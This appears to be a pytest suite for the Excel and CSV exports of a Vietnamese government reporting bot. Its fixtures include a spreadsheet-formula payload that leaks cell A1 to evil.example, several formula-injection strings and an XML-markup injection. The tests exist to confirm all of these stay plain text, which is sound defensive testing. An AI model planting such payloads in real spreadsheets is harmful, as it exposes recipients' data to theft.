"""The export workbook read back with openpyxl, the CSV, the file name, LibreOffice opening it."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import functools
import io
import os
import shutil
import subprocess
import zipfile
from collections.abc import Iterator, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from cchc_bot.aggregation import (
    NOT_ARISEN,
    Comparisons,
    EarlierPeriod,
    ExportData,
    Figure,
    ReminderRecord,
    UnitReport,
)
from cchc_bot.config.loading import load_configuration
from cchc_bot.config.questionnaire import Questionnaire
from cchc_bot.exports.csv_table import CSV_BOM, write_csv
from cchc_bot.exports.naming import district_slug, export_filename
from cchc_bot.exports.sheets import SHEET_NAMES
from cchc_bot.exports.workbook import write_xlsx
from cchc_bot.ops.settings import bundled_config_dir
from cchc_bot.period_calendar import period_by_code
from cchc_bot.periods import ReportingPeriod

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
UTC = dt.UTC
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
INJECTIONS = ("=1+1", "@SUM(A1)", "-2+3", "\tx", "+1", "\rx")

QUESTIONNAIRE = Questionnaire.model_validate(
    {
        "version": "test",
        "sections": [
            {
                "code": "SO",
                "title": "1. Số liệu",
                "indicators": [
                    {"id": "cnt", "label": "Số văn bản đã ban hành", "type": "integer",
                     "unit": "văn bản", "target": {"op": ">=", "value": 10}},
                    {"id": "dec", "label": "Kinh phí", "type": "decimal", "decimals": 2,
                     "unit": "triệu đồng"},
                    {"id": "pct", "label": "Mức độ hoàn thành", "type": "percent"},
                    {"id": "rat", "label": "Tỷ lệ hồ sơ đúng hạn", "type": "ratio",
                     "numerator": {"label": "Số hồ sơ đúng hạn"},
                     "denominator": {"label": "Số hồ sơ đã giải quyết"},
                     "target": {"op": ">=", "value": 100}},
                    {"id": "rat_na", "label": "Tỷ lệ phản ánh đã xử lý", "type": "ratio",
                     "numerator": {"label": "Đã xử lý"}, "denominator": {"from": "cnt"}},
                ],
            },
            {
                "code": "KHAC",
                "title": "2. Khác",
                "indicators": [
                    {"id": "yn", "label": "Có quy chế chi tiêu nội bộ", "type": "boolean"},
                    {"id": "txt", "label": "Kiến nghị", "type": "text", "required": False},
                ],
            },
        ],
    }
)  # fmt: skip
ALL = frozenset(indicator.id for _, indicator in QUESTIONNAIRE.indicators())
SUBMITTED_AT = dt.datetime(2024, 3, 10, 2, 30, tzinfo=UTC)
LOCAL_SUBMITTED_AT = dt.datetime(2024, 3, 10, 9, 30, tzinfo=TZ).replace(tzinfo=None)


@functools.cache
def q1() -> ReportingPeriod:
    """Quý I/2024 of the bundled schedule."""
    schedule = load_configuration(bundled_config_dir()).schedule
    return period_by_code(schedule, "2024-Q1", TZ)


def unit(code: str, name: str, state: str = "submitted", **fields: Any) -> UnitReport:
    """A unit of kind xã asked every indicator."""
    fields.setdefault("applicable", ALL)
    return UnitReport(code=code, name=name, kind="xa", state=state, **fields)


def sample() -> ExportData:
    """Four units: two submitted (one late, one with hostile text), one draft, one returned."""
    units = [
        unit(
            "xa_a",
            EVIL_NAME,
            submitted_at=SUBMITTED_AT,
            submitted_by="Nguyễn Văn A",
            version=2,
            figures={
                "cnt": Figure.number(1234),
                "dec": Figure.number("12.5"),
                "pct": Figure.number("95.5"),
                "rat": Figure.ratio(1, 2, explanation=INJECTIONS[0]),
                "rat_na": NOT_ARISEN,
                "yn": Figure.yes_no(True),
                "txt": Figure.answer(INJECTIONS[1]),
            },
        ),
        unit(
            "xa_b",
            "Xã Đại Ân 2",
            late=True,
            submitted_at=SUBMITTED_AT + dt.timedelta(days=3),
            submitted_by=INJECTIONS[2],
            version=1,
            figures={
                "cnt": Figure.number(6),
                "dec": Figure.number("0.25"),
                "pct": Figure.number(80),
                "rat": Figure.ratio(99, 100, explanation=INJECTIONS[3]),
                "rat_na": Figure.ratio(0, 0),
                "yn": Figure.yes_no(False),
            },
        ),
        unit("xa_c", "Xã Liêu Tú", state="draft", late=True),
        unit(
            "xa_d",
            "Xã Tài Văn",
            state="returned",
            submitted_at=SUBMITTED_AT,
            version=1,
            returned_reason=INJECTIONS[4],
            figures={"cnt": Figure.number(999_999)},
            applicable=ALL - {"txt"},
        ),
    ]
    reminders = [
        ReminderRecord("xa_c", "Trần Thị B", "before_1", SUBMITTED_AT, "sent", SUBMITTED_AT),
        ReminderRecord("xa_c", "Lê C", "overdue_1", SUBMITTED_AT, "failed", None, INJECTIONS[5]),
        ReminderRecord("xa_d", "Lê D", "digest-overdue", SUBMITTED_AT, "unreachable"),
        ReminderRecord("xa_a", "Phạm E", "before_2", SUBMITTED_AT, "skipped"),
    ]
    return ExportData(
        period=q1(),
        questionnaire=QUESTIONNAIRE,
        units=units,
        previous=None,
        reminders=reminders,
        generated_at=dt.datetime(2024, 3, 11, 20, 0, tzinfo=UTC),  # 03:00 on 12/3 locally
        tz=TZ,
        comparisons=Comparisons(
            previous=EarlierPeriod(
                "2023-Y",
                "Năm 2023",
                {"xa_a": {"cnt": Figure.number(1000), "rat": Figure.ratio(3, 4)}},
            )
        ),
    )


@pytest.fixture(scope="module")
def xlsx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample written to a file."""
    path = tmp_path_factory.mktemp("export") / "export.xlsx"
    write_xlsx(sample(), path)
    return path


@pytest.fixture(scope="module")
def book(xlsx: Path) -> Iterator[Any]:
    """The sample workbook read back by openpyxl."""
    workbook = openpyxl.load_workbook(xlsx)
    yield workbook
    workbook.close()


def rows(sheet: Any) -> list[list[Any]]:
    """A sheet's values, row by row."""
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def header_index(sheet: Any, row: int = 1) -> dict[str, int]:
    """Column number (1-based) of each header text of a row."""
    return {cell.value: cell.column for cell in sheet[row] if cell.value is not None}


def find_row(sheet: Any, column: int, value: str) -> int:
    """The first row whose cell in a column holds a value."""
    for cells in sheet.iter_rows(min_col=column, max_col=column):
        if cells[0].value == value:
            return int(cells[0].row)
    raise AssertionError(f"{value!r} not found")


def test_workbook_has_the_six_vietnamese_sheets(book: Any) -> None:
    assert book.sheetnames == list(SHEET_NAMES)
    assert SHEET_NAMES == (
        "Tổng hợp",
        "Theo đơn vị",
        "Tình trạng nộp",
        "Giải trình",
        "Chưa đạt chỉ tiêu",
        "Nhắc nhở",
    )


def test_unit_sheet_headers_freeze_and_autofilter(book: Any) -> None:
    sheet = book["Theo đơn vị"]
    headers = [cell.value for cell in sheet[1]]
    assert headers[:4] == ["Tên đơn vị", "Mã đơn vị", "Loại đơn vị", "Tình trạng"]
    assert headers[4:] == [
        "cnt · Số văn bản đã ban hành (văn bản)",
        "dec · Kinh phí (triệu đồng)",
        "pct · Mức độ hoàn thành (%)",
        "rat · Tử số: Số hồ sơ đúng hạn",
        "rat · Mẫu số: Số hồ sơ đã giải quyết",
        "rat · Tỷ lệ hồ sơ đúng hạn (%)",
        "rat_na · Tử số: Đã xử lý",
        "rat_na · Mẫu số: = cnt",
        "rat_na · Tỷ lệ phản ánh đã xử lý (%)",
        "yn · Có quy chế chi tiêu nội bộ",
        "txt · Kiến nghị",
    ]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:O5"


def test_unit_sheet_figures_are_numbers_with_number_formats(book: Any) -> None:
    sheet = book["Theo đơn vị"]
    row = find_row(sheet, 2, "xa_b")
    col = header_index(sheet)
    cnt = sheet.cell(row, col["cnt · Số văn bản đã ban hành (văn bản)"])
    assert (cnt.value, cnt.data_type, cnt.number_format) == (6, "n", "#,##0")
    dec = sheet.cell(row, col["dec · Kinh phí (triệu đồng)"])
    assert (dec.value, dec.number_format) == (0.25, "#,##0.00")
    pct = sheet.cell(row, col["pct · Mức độ hoàn thành (%)"])
    assert (pct.value, pct.number_format) == (0.8, "0.00%")
    numerator = sheet.cell(row, col["rat · Tử số: Số hồ sơ đúng hạn"])
    denominator = sheet.cell(row, col["rat · Mẫu số: Số hồ sơ đã giải quyết"])
    share = sheet.cell(row, col["rat · Tỷ lệ hồ sơ đúng hạn (%)"])
    assert (numerator.value, denominator.value) == (99, 100)
    assert (share.value, share.number_format) == (0.99, "0.00%")
    assert sheet.cell(row, col["rat_na · Tỷ lệ phản ánh đã xử lý (%)"]).value == "Không phát sinh"
    assert sheet.cell(row, col["yn · Có quy chế chi tiêu nội bộ"]).value == "Không"


def test_every_active_unit_is_listed_and_unsubmitted_ones_are_blank(book: Any) -> None:
    sheet = book["Theo đơn vị"]
    table = rows(sheet)[1:]
    assert [r[1] for r in table] == ["xa_a", "xa_b", "xa_c", "xa_d"]
    assert [r[3] for r in table] == ["Đã nộp", "Đã nộp", "Đang nhập", "Bị trả lại"]
    for row in table[2:]:
        assert all(value is None for value in row[4:])  # a returned report is listed, not summed
    status = rows(book["Tình trạng nộp"])[1:]
    assert [r[1] for r in status] == ["xa_a", "xa_b", "xa_c", "xa_d"]


def test_hostile_text_stays_text(book: Any) -> None:
    seen: list[str] = []
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if not isinstance(cell.value, str):
                    continue
                # A carriage return is stored as the OOXML escape _x000D_, which Excel and
                # LibreOffice decode and openpyxl leaves as it is.
                text = unescape(cell.value)
                if text == EVIL_NAME or text in INJECTIONS:
                    assert cell.data_type == "s"
                    seen.append(text)
    # Stored exactly as typed, with no apostrophe added.
    assert set(seen) == {EVIL_NAME, *INJECTIONS}


def test_explanations_and_text_answers_by_unit(book: Any) -> None:
    table = rows(book["Giải trình"])
    assert table[0] == [
        "Mã đơn vị",
        "Tên đơn vị",
        "Mục",
        "Mã chỉ tiêu",
        "Chỉ tiêu",
        "Loại",
        "Số liệu của đơn vị",
        "Chỉ tiêu giao",
        "Nội dung",
    ]
    body = [(r[0], r[3], r[5], r[6], r[7], r[8]) for r in table[1:]]
    assert body == [
        ("xa_a", "rat", "Giải trình chỉ tiêu chưa đạt", "1/2 (50 %)", "≥ 100 %", "=1+1"),
        ("xa_a", "txt", "Ý kiến của đơn vị", None, None, "@SUM(A1)"),
        ("xa_b", "rat", "Giải trình chỉ tiêu chưa đạt", "99/100 (99 %)", "≥ 100 %", "\tx"),
    ]


def test_status_sheet_has_local_datetimes_and_timeliness(book: Any) -> None:
    sheet = book["Tình trạng nộp"]
    table = rows(sheet)
    assert table[0] == [
        "STT",
        "Mã đơn vị",
        "Tên đơn vị",
        "Loại đơn vị",
        "Tình trạng",
        "Thời điểm nộp",
        "Đúng hạn / muộn",
        "Người nộp",
        "Lần nộp",
        "Lý do trả lại",
        "Phiên bản phiếu",
    ]
    first = sheet.cell(2, 6)
    assert first.is_date
    assert first.value == LOCAL_SUBMITTED_AT  # in the local zone, stored without one
    assert first.number_format == "dd/mm/yyyy hh:mm"
    assert table[1][6:9] == ["Đúng hạn", "Nguyễn Văn A", 2]
    assert table[2][6:9] == ["Muộn", "-2+3", 1]
    assert table[3][4:7] == ["Đang nhập", None, "Quá hạn, chưa nộp"]
    assert table[4][4] == "Bị trả lại"
    assert table[4][9] == "+1"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:K5"


def test_reminder_sheet_lists_sent_failed_and_unreachable(book: Any) -> None:
    table = rows(book["Nhắc nhở"])
    assert table[0][:6] == [
        "Mã đơn vị",
        "Tên đơn vị",
        "Người nhận",
        "Loại nhắc nhở",
        "Thời điểm dự kiến",
        "Kết quả",
    ]
    assert [(r[0], r[2], r[5]) for r in table[1:]] == [
        ("xa_c", "Lê C", "Gửi không được"),
        ("xa_c", "Trần Thị B", "Đã gửi"),
        ("xa_d", "Lê D", "Không liên lạc được"),
    ]
    assert table[1][3] == "Quá hạn 1 ngày làm việc"
    assert unescape(table[1][7]) == "\rx"
    assert table[2][4] == LOCAL_SUBMITTED_AT


def summary_line(book: Any, indicator_id: str) -> dict[str, Any]:
    """One indicator's line of "Tổng hợp", by header."""
    sheet = book["Tổng hợp"]
    header_row = find_row(sheet, 1, "Mã chỉ tiêu")
    headers = [cell.value for cell in sheet[header_row]]
    row = find_row(sheet, 1, indicator_id)
    cells = sheet[row]
    return {header: cell for header, cell in zip(headers, cells, strict=False)}


def test_summary_header_block(book: Any) -> None:
    table = rows(book["Tổng hợp"])
    assert table[0][0] == "TỔNG HỢP KẾT QUẢ THỰC HIỆN CÔNG TÁC CẢI CÁCH HÀNH CHÍNH"
    assert table[1][0] == "UBND huyện Trần Đề — Quý I/2024"
    block = {r[0]: r[1] for r in table[2:6]}
    assert block == {
        "Thời gian chốt số liệu": "từ 11/12/2023 đến 10/3/2024",
        "Hạn nộp báo cáo": "23:59 ngày 11/3/2024",
        "Thời điểm lập bảng": "03:00 ngày 12/3/2024",
        "Đơn vị đã nộp": "2/4 (đúng hạn 1, muộn 1); bị trả lại 1",
    }
    assert any("trung bình cộng" in str(r[1]) for r in table)  # percent figures are averaged


def test_summary_ratio_is_ratio_of_sums_with_target_and_units(book: Any) -> None:
    line = summary_line(book, "rat")
    district = line["Số liệu tổng hợp"]
    # 1/2 and 99/100: 100/102 = 98,04 %, not the 74,5 % average of the two ratios.
    assert district.value == pytest.approx(100 / 102)
    assert district.number_format == "0.00%"
    assert (line["Tổng tử số"].value, line["Tổng mẫu số"].value) == (100, 102)
    assert line["Chỉ tiêu giao"].value == "≥ 100 %"
    assert line["Đánh giá"].value == "Chưa đạt"
    assert line["Đơn vị báo cáo"].value == "2/4"  # the draft and the returned report are due
    assert line["Kỳ trước (Năm 2023)"].value == pytest.approx(0.75)


def test_summary_counts_percent_and_not_arisen(book: Any) -> None:
    cnt = summary_line(book, "cnt")
    assert (cnt["Số liệu tổng hợp"].value, cnt["Số liệu tổng hợp"].number_format) == (
        1240,
        "#,##0",
    )
    assert cnt["Đánh giá"].value == "Đạt"
    assert cnt["Kỳ trước (Năm 2023)"].value == 1000
    pct = summary_line(book, "pct")
    assert pct["Số liệu tổng hợp"].value == pytest.approx(0.8775)  # mean of 95,5 % and 80 %
    assert (pct["Thấp nhất"].value, pct["Cao nhất"].value) == (0.8, 0.955)
    not_arisen = summary_line(book, "rat_na")
    assert not_arisen["Số liệu tổng hợp"].value == "Không phát sinh"
    assert not_arisen["Trong đó không phát sinh"].value == 2
    assert not_arisen["Đánh giá"].value == "—"
    yn = summary_line(book, "yn")
    assert yn["Số đơn vị theo câu trả lời"].value == "Có: 1; Không: 1"


def test_summary_has_section_title_rows(book: Any) -> None:
    firsts = [r[0] for r in rows(book["Tổng hợp"])]
    assert firsts.index("1. Số liệu") < firsts.index("cnt") < firsts.index("2. Khác")


def test_workbook_can_be_written_to_a_stream() -> None:
    buffer = io.BytesIO()
    write_xlsx(sample(), buffer)
    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()), read_only=True)
    assert workbook.sheetnames == list(SHEET_NAMES)
    workbook.close()


def test_export_file_name() -> None:
    data = sample()
    assert (
        export_filename(data.period, data.generated_at, place=data.organisation.place)
        == "CCHC_2024-Q1_TranDe_20240312.xlsx"
    )
    assert (
        export_filename(data.period, data.generated_at, place="Thị xã Vĩnh Châu", extension=".csv")
        == "CCHC_2024-Q1_VinhChau_20240312.csv"
    )


@pytest.mark.parametrize(
    ("district", "slug"),
    [
        ("Huyện Trần Đề", "TranDe"),
        ("Thành phố Sóc Trăng", "SocTrang"),
        ("huyện đảo Lý Sơn", "DaoLySon"),
    ],
)
def test_district_slug(district: str, slug: str) -> None:
    assert district_slug(district) == slug


def csv_text(data: ExportData) -> str:
    """The CSV export as text."""
    stream = io.StringIO(newline="")
    write_csv(data, stream)
    return stream.getvalue()


def test_csv_is_the_unit_table_with_bom_and_neutralised_text() -> None:
    text = csv_text(sample())
    assert text.startswith(CSV_BOM)
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(text[1:])))
    assert table[0][:4] == ["Tên đơn vị", "Mã đơn vị", "Loại đơn vị", "Tình trạng"]
    assert len(table) == 1 + len(sample().units)
    first, second = table[1], table[2]
    assert first[0] == "'" + EVIL_NAME
    assert first[4:10] == ["1234", "12.5", "95.50", "1", "2", "50.00"]
    assert second[4:10] == ["6", "0.25", "80.00", "99", "100", "99.00"]
    assert table[3][4:] == [""] * (len(table[0]) - 4)


def soffice() -> str:
    """The LibreOffice binary; skipping without it is allowed only outside CI."""
    binary = shutil.which("soffice") or shutil.which("libreoffice")
    if binary is None:
        if os.environ.get("CI") == "true":
            pytest.fail("soffice is required under CI=true (apt-get install libreoffice-calc)")
        pytest.skip("soffice is not installed")
    return binary


def convert(xlsx: Path, target: str, folder: Path) -> subprocess.CompletedProcess[str]:
    """Convert a workbook with headless LibreOffice (its own profile, so runs never collide)."""
    profile = (folder / "profile").as_uri()
    command = [soffice(), f"-env:UserInstallation={profile}", "--headless", "--norestore"]
    command += ["--convert-to", target, "--outdir", str(folder), str(xlsx)]
    return subprocess.run(command, capture_output=True, text=True, timeout=180, check=False)


def test_libreoffice_opens_the_workbook_without_repair(xlsx: Path, tmp_path: Path) -> None:
    result = convert(xlsx, "pdf", tmp_path)
    assert result.returncode == 0, result.stderr
    pdf = tmp_path / "export.pdf"
    assert pdf.exists(), result.stdout + result.stderr
    assert pdf.read_bytes().startswith(b"%PDF")
    for line in result.stderr.lower().splitlines():
        # LibreOffice warns about Java on machines without it; that is not about the file.
        if "javaldx" in line:
            continue
        assert "repair" not in line, result.stderr
        assert "error" not in line, result.stderr
        assert "corrupt" not in line, result.stderr


def test_libreoffice_reads_hostile_text_as_text(xlsx: Path, tmp_path: Path) -> None:
    # Every sheet to CSV (the last filter token, -1, means all sheets), UTF-8, quoted.
    result = convert(
        xlsx,
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false,false,false,false,-1",
        tmp_path,
    )
    assert result.returncode == 0, result.stderr
    units = sheet_csv(tmp_path / "export-Theo đơn vị.csv")
    assert units[1][0] == EVIL_NAME
    # Not 2, not a sum, not 1, tab and carriage return kept: nothing was evaluated.
    assert [row[-1] for row in sheet_csv(tmp_path / "export-Giải trình.csv")[1:]] == [
        "=1+1",
        "@SUM(A1)",
        "\tx",
    ]
    assert sheet_csv(tmp_path / "export-Tình trạng nộp.csv")[2][7] == "-2+3"
    assert sheet_csv(tmp_path / "export-Nhắc nhở.csv")[1][7] == "\rx"


def sheet_csv(path: Path) -> list[list[str]]:
    """A CSV written by LibreOffice, line endings inside cells kept."""
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def test_every_part_is_well_formed_and_odd_text_survives(tmp_path: Path) -> None:
    odd = {
        "bell": "chuông\x07",
        "literal": "_x0041_ không phải mã thoát",
        "markup": "a & b < c > d \"e\" 'f'",
        "surrogate": "lỗi \ud800 mã hóa",
        "spaced": "  cách lề  ",
        "lines": "dòng 1\ndòng 2",
        "long": "x" * 40_000,
    }
    expected = {**odd, "surrogate": "lỗi \ufffd mã hóa", "long": "x" * 32_767}
    data = dataclasses.replace(
        sample(), units=[unit(code, text, state="not_started") for code, text in odd.items()]
    )
    path = tmp_path / "odd.xlsx"
    write_xlsx(data, path)
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(archive.read(name))  # raises on malformed XML
    workbook = openpyxl.load_workbook(path)
    names = {row[1]: unescape(row[0]) for row in rows(workbook["Theo đơn vị"])[1:]}
    workbook.close()
    assert names == expected


def summed(values: Sequence[Any]) -> Decimal:
    """Sum of the numeric cells of a column."""
    return sum((Decimal(str(v)) for v in values if isinstance(v, int | float)), Decimal(0))


def test_unit_sheet_column_sums_match_the_district_totals(book: Any) -> None:
    units = book["Theo đơn vị"]
    col = header_index(units)
    column = col["cnt · Số văn bản đã ban hành (văn bản)"]
    values = [row[column - 1] for row in rows(units)[1:]]
    assert summed(values) == summary_line(book, "cnt")["Số liệu tổng hợp"].value


def test_period_without_units_or_reminders_still_has_every_sheet() -> None:
    buffer = io.BytesIO()
    write_xlsx(dataclasses.replace(sample(), units=[], reminders=[], previous=None), buffer)
    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    assert workbook.sheetnames == list(SHEET_NAMES)
    assert rows(workbook["Theo đơn vị"])[0][:4] == [
        "Tên đơn vị",
        "Mã đơn vị",
        "Loại đơn vị",
        "Tình trạng",
    ]
    assert workbook["Nhắc nhở"].auto_filter.ref == "A1:H1"
    line = summary_line(workbook, "rat")
    assert line["Số liệu tổng hợp"].value == "Chưa có số liệu"
    assert line["Đơn vị báo cáo"].value == "0/0"
    workbook.close()


def test_same_data_gives_the_same_bytes() -> None:
    first, second = io.BytesIO(), io.BytesIO()
    write_xlsx(sample(), first)
    write_xlsx(sample(), second)
    assert first.getvalue() == second.getvalue()


def test_text_shaped_like_xlsxwriter_markup_stays_escaped_text(tmp_path: Path) -> None:
    # In constant_memory mode XlsxWriter writes a string that starts with "<r>" and ends with
    # "</r>" into the sheet unescaped; user text must not inject cells or formulas that way.
    injected = (
        '<r><t>x</t></r></is></c><c r="Z9"><f>HYPERLINK("http://evil.example")</f></c>'
        '<c r="Z10" t="inlineStr"><is><r><t>y</t></r>'
    )
    odd = {
        "injected": injected,
        "empty": "<r></r>",
        "spaced": "<r>  a & b  </r>",
        "escape": "<r>_x0041_</r>",
        "controls": "<r>dòng 1\r\ndòng 2\x07</r>",
    }
    # Control characters cannot be kept exactly inside such a string; CR becomes a line feed.
    expected = {**odd, "controls": "<r>dòng 1\ndòng 2\ufffd</r>"}
    data = dataclasses.replace(
        sample(), units=[unit(code, text, state="not_started") for code, text in odd.items()]
    )
    path = tmp_path / "markup.xlsx"
    write_xlsx(data, path)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(archive.read(name))
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Theo đơn vị"]
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    names = {row[1]: row[0] for row in rows(sheet)[1:]}
    workbook.close()
    assert names == expected


# --- Printing: widths, heights, pages, and only the indicators of the period ----------------


@functools.cache
def bundled() -> Any:
    """The bundled Trần Đề configuration."""
    return load_configuration(bundled_config_dir())


def bundled_export(period_code: str, *, explanation: str | None = None) -> ExportData:
    """Every bundled unit, the first one submitted with the figures of the period it is asked."""
    config = bundled()
    period = period_by_code(config.schedule, period_code, TZ)
    reports = []
    for number, config_unit in enumerate(config.units.units):
        asked = config.questionnaire.questions_for(config_unit, period.kind)
        figures: dict[str, Figure] = {}
        if number == 0:
            for indicator in asked:
                if indicator.type.value == "ratio":
                    figures[indicator.id] = Figure.ratio(3, 4, explanation=explanation)
                elif indicator.type.value in ("integer", "decimal", "percent"):
                    figures[indicator.id] = Figure.number(7)
        reports.append(
            UnitReport(
                code=config_unit.code,
                name=config_unit.name,
                kind=str(config_unit.kind),
                state="submitted" if number == 0 else "not_started",
                submitted_at=SUBMITTED_AT if number == 0 else None,
                version=1 if number == 0 else 0,
                figures=figures,
                applicable=frozenset(indicator.id for indicator in asked),
            )
        )
    return ExportData(
        period=period,
        questionnaire=config.questionnaire,
        units=reports,
        previous=None,
        reminders=[],
        generated_at=period.deadline,
        organisation=config.units.organisation,
        tz=TZ,
    )


def read_back(data: ExportData) -> Any:
    """A workbook written and read back with openpyxl."""
    buffer = io.BytesIO()
    write_xlsx(data, buffer)
    return openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))


def column_width(sheet: Any, letter: str) -> float:
    """A column's width as stored (XlsxWriter adds Excel's 0,71 of padding)."""
    return float(sheet.column_dimensions[letter].width)


def test_unit_sheet_prints_across_several_a4_landscape_pages_with_titles() -> None:
    workbook = read_back(bundled_export("2024-Y"))
    sheet = workbook["Theo đơn vị"]
    setup = sheet.page_setup
    assert (setup.orientation, str(setup.paperSize)) == ("landscape", "9")
    # Not squeezed onto one page wide: the table runs over several pages, each repeating
    # the header row and the unit's name, and the screen keeps both frozen.
    assert (
        not sheet.sheet_properties.pageSetUpPr or not sheet.sheet_properties.pageSetUpPr.fitToPage
    )
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.print_title_cols == "$A:$A"
    assert sheet.freeze_panes == "B2"
    assert "&P" in sheet.oddFooter.center.text
    assert sheet.print_options.gridLines is True
    workbook.close()


def test_narrow_sheets_print_one_page_wide_and_summary_repeats_its_header() -> None:
    workbook = read_back(bundled_export("2024-Q1"))
    status = workbook["Tình trạng nộp"]
    assert status.sheet_properties.pageSetUpPr.fitToPage is True
    # One page wide (1 is the default, so it may be left out), as many pages down as needed.
    assert status.page_setup.fitToWidth in (None, 1)
    assert status.page_setup.fitToHeight == 0
    assert status.print_title_rows == "$1:$1"
    assert status.page_setup.orientation == "landscape"
    summary = workbook["Tổng hợp"]
    header_row = find_row(summary, 1, "Mã chỉ tiêu")
    # Only the table's header repeats on each page, not the title block above it.
    assert summary.print_title_rows == f"${header_row}:${header_row}"
    assert summary.page_setup.orientation == "landscape"
    workbook.close()


def test_columns_fit_their_longest_text_within_a_cap() -> None:
    workbook = read_back(bundled_export("2024-Q1"))
    names = [unit.name for unit in bundled().units.units]
    codes = [unit.code for unit in bundled().units.units]
    status = workbook["Tình trạng nộp"]
    col = header_index(status)
    # "Mã đơn vị" shows every code in full. The longest, "xa_thanh_thoi_thuan", is 116 px in
    # Arial 10 at 96 dpi, where a "0" (the unit of widths) is 7 px: 16,6 widths, plus the
    # 0,71 Excel keeps for the cell's margins.
    assert max(codes, key=len) == "xa_thanh_thoi_thuan"
    code_width = column_width(status, openpyxl.utils.get_column_letter(col["Mã đơn vị"]))
    assert 116 / 7 + 0.71 <= code_width <= 116 / 7 + 6
    # Names are up to 60 characters: capped (they wrap), but never narrower than a short one.
    name_width = column_width(status, openpyxl.utils.get_column_letter(col["Tên đơn vị"]))
    assert 30 <= name_width <= 46
    assert max(len(name) for name in names) > name_width
    # "STT" holds numbers up to 38: no wider than its header needs.
    assert column_width(status, "A") <= 8
    units = workbook["Theo đơn vị"]
    assert 30 <= column_width(units, "A") <= 46
    workbook.close()


def test_wrapped_rows_get_the_height_of_their_lines() -> None:
    long_reason = "Số hồ sơ quá hạn chưa khớp phần mềm một cửa, đề nghị rà soát lại. " * 6
    data = bundled_export("2024-Q1", explanation=long_reason)
    workbook = read_back(data)
    sheet = workbook["Giải trình"]
    col = header_index(sheet)
    width = column_width(sheet, openpyxl.utils.get_column_letter(col["Nội dung"]))
    assert width <= 72
    # 396 characters (at least 0,85 of a "0" each in Arial) in at most 72 "0" widths of a
    # column: at least 5 lines of 12,75 points.
    assert len(long_reason) == 396
    first = 2
    height = sheet.row_dimensions[first].height
    assert height is not None
    assert 5 * 12.75 <= height <= 409
    # A unit whose name wraps in "Tình trạng nộp" gets two lines; a short one keeps the default.
    status = workbook["Tình trạng nộp"]
    by_name = {row[2]: number for number, row in enumerate(rows(status), start=1)}
    longest = max(by_name, key=lambda name: len(name or ""))
    assert status.row_dimensions[by_name[longest]].height == 2 * 12.75
    assert status.row_dimensions[by_name["Phòng Nội vụ"]].height is None
    # Header rows are as tall as their longest wrapped header, not a fixed guess.
    header_height = workbook["Theo đơn vị"].row_dimensions[1].height
    assert header_height is not None
    assert header_height % 12.75 == 0
    workbook.close()


@pytest.mark.parametrize(
    ("period_code", "asked", "left_out"),
    [
        ("2024-Q1", set(), {"cddh_07", "cv_03", "tcc_01"}),
        ("2024-H1", {"tcc_01"}, {"cddh_07", "cv_03"}),
        ("2024-Y", {"cddh_07", "cv_03", "tcc_01"}, set()),
    ],
)
def test_indicators_not_asked_in_the_period_are_left_out(
    period_code: str, asked: set[str], left_out: set[str]
) -> None:
    # cddh_07 and cv_03 are asked yearly only, tcc_01 at six months and yearly.
    workbook = read_back(bundled_export(period_code))
    summary_ids = {row[0] for row in rows(workbook["Tổng hợp"]) if row[0]}
    unit_ids = {str(header).split(" · ")[0] for header in rows(workbook["Theo đơn vị"])[0][4:]}
    assert asked <= summary_ids
    assert asked <= unit_ids
    assert not left_out & summary_ids
    assert not left_out & unit_ids
    assert "cddh_01" in summary_ids  # asked every period
    workbook.close()
    buffer = io.StringIO(newline="")
    write_csv(bundled_export(period_code), buffer)
    csv_ids = {h.split(" · ")[0] for h in next(csv.reader(io.StringIO(buffer.getvalue())))[4:]}
    assert csv_ids == unit_ids
